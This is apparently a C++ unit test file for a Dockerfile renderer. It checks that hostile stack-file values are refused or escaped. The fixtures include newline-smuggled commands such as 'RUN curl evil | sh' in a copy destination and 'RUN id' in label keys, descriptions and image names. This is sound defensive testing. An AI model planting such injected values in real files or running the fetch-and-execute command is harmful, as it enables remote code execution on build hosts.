// SPDX-License-Identifier: Apache-2.0
// Values from the stack file that validation should have refused must still not change the
// Dockerfile's instructions: either they are escaped, or rendering fails.
#include "dockerfile/parser.hpp"
#include "render/render.hpp"
#include "render/test_stack.hpp"

#include <gtest/gtest.h>

using namespace plinth;

namespace {

const dockerfile::Instruction* find(const dockerfile::Dockerfile& df, dockerfile::Keyword k) {
  for (const auto& i : df.instructions) {
    if (i.keyword == k) return &i;
  }
  return nullptr;
}

void expect_refused(const render::testing::Stack3& s, const std::string& what) {
  for (auto flavour : {render::Flavour::buildkit, render::Flavour::classic}) {
    const auto r = render::render_stack(s.resolved, flavour, {});
    ASSERT_FALSE(r) << what << ":\n" << (*r)[2].dockerfile;
    EXPECT_EQ(r.error().code, Errc::internal);
  }
}

} // namespace

TEST(RenderHostile, NewlineInCopyDestinationIsRefused) {
  render::testing::Stack3 s;
  s.stack.images[2].copy[0].dest = "/workspace/src\nRUN curl evil | sh";
  expect_refused(s, "copy dest");
}

TEST(RenderHostile, NewlineOrSpaceInLabelKeyIsRefused) {
  for (const auto& key : {"com.example.a\nRUN id", "com.example.a b", "k=\"v\""}) {
    render::testing::Stack3 s;
    s.stack.images[2].labels = {{key, {"v", {}}}};
    expect_refused(s, key);
  }
}

TEST(RenderHostile, ControlCharactersInValuesAreRefused) {
  render::testing::Stack3 s;
  s.stack.images[2].description = "line one\nRUN id";
  expect_refused(s, "description");
  render::testing::Stack3 e;
  e.stack.images[2].env = {{"X", {"a\rb", {}}}};
  expect_refused(e, "env value");
  render::testing::Stack3 w;
  for (auto& img : w.resolved.images)
    img.workdir = "/work\nspace";
  expect_refused(w, "workdir");
}

TEST(RenderHostile, QuotesDollarsAndUnicodeInValuesAreEscaped) {
  render::testing::Stack3 s;
  const std::string value = "say \"hi\" to $USER \\ ünï ✓ `id`";
  s.stack.images[2].env = {{"GREETING", {value, {}}}};
  s.stack.images[2].labels = {{"com.example.note", {value, {}}}};
  s.stack.images[2].description = value;
  const auto r = render::render_stack(s.resolved, render::Flavour::buildkit, {});
  ASSERT_TRUE(r) << r.error().describe();
  const auto df = dockerfile::parse((*r)[2].dockerfile).dockerfile;
  const auto* env = find(df, dockerfile::Keyword::env);
  ASSERT_NE(env, nullptr);
  EXPECT_EQ(env->pairs.back().key, "GREETING");
  EXPECT_EQ(env->pairs.back().value, value);
  const auto* label = find(df, dockerfile::Keyword::label);
  ASSERT_NE(label, nullptr);
  int matched = 0;
  for (const auto& kv : label->pairs) {
    matched += kv.value == value ? 1 : 0;
  }
  EXPECT_EQ(matched, 2); // the user label and org.opencontainers.image.description
}

TEST(RenderHostile, PathsWithSpacesUseTheExecFormOfCopyAndAQuotedWorkdir) {
  render::testing::Stack3 s;
  s.stack.images[2].copy = {{"my src", "/work space/ünï", {}}};
  for (auto& img : s.resolved.images)
    img.workdir = "/work space";
  const auto r = render::render_stack(s.resolved, render::Flavour::classic, {});
  ASSERT_TRUE(r) << r.error().describe();
  const auto& text = (*r)[2].dockerfile;
  EXPECT_NE(text.find("COPY --chown=1000:1000 [\"my src\", \"/work space/ünï\"]\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("WORKDIR \"/work space\"\n"), std::string::npos) << text;
  EXPECT_NE((*r)[0].dockerfile.find("install -d -o 1000 -g 1000 '/work space' &&"),
            std::string::npos);
}

TEST(RenderHostile, ImageNameInCommentsCannotStartAnInstruction) {
  render::testing::Stack3 s;
  s.stack.images[2].name = "project\nRUN id";
  // The name reaches labels too (refused there), so rendering fails rather than escaping.
  expect_refused(s, "image name");
}

// Found by fuzz/fuzz_stack.cpp: nlohmann::json threw from plinth-init.conf's service command.
TEST(RenderHostile, InvalidUtf8InTheWorkdirOfAnImageWithToolsIsRefused) {
  render::testing::Stack3 s;
  s.resolved.images[0].tools = s.stack.images[0].tools;
  for (auto& img : s.resolved.images)
    img.workdir = "/w\x91\x8d";
  expect_refused(s, "workdir");
}
